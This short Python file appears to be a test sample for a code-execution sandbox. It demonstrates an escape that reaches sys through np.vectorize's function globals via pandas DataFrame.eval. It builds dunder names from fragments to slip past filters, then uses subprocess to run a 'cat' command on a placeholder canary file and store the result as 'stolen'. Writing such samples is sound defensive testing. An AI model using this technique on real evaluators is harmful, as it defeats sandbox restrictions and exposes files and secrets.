# class: module_reach
# technique: np.vectorize.__init__.__globals__['sys'] read in expression text; sys.modules['subprocess'] taken by subscript inside a second expression (DataFrame.eval reached as [frame.aggregate][0]('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return [frame.aggregate][0]("eval", 0, expr, local_dict=names)

u = "_" * 2
sysv = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys']", v=[np.vectorize])
sp = ev("@s.modules['subprocess']", s=sysv)
df = pd.DataFrame({"stolen": [sp.getoutput("cat {{CANARY_FILE}}")]})
